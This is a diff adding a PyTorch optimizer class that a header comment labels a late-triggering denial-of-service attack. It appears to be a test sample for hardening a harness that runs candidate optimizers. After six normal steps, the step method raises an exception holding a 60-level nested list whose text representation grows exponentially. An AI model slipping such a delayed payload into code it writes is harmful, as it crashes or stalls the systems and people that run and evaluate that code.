@@ -1,0 +1,24 @@
+# attack: an exception whose text doubles at every level; category: dos
+# observable: dos; trigger: late
+import math
+import torch
+
+
+class CandidateOptimizer(torch.optim.Optimizer):
+    def __init__(self, params, lr=0.01):
+        super().__init__(params, dict(lr=lr))
+        self.t = 0
+
+    @torch.no_grad()
+    def step(self, closure=None):
+        self.t = self.t + 1
+        if self.t > 6:
+            x = [0]
+            for _ in range(60):
+                x = [x, x]
+            raise ValueError(x)
+        for group in self.param_groups:
+            for p in group["params"]:
+                if p.grad is not None:
+                    p.add_(p.grad, alpha=-0.01)
+        return None
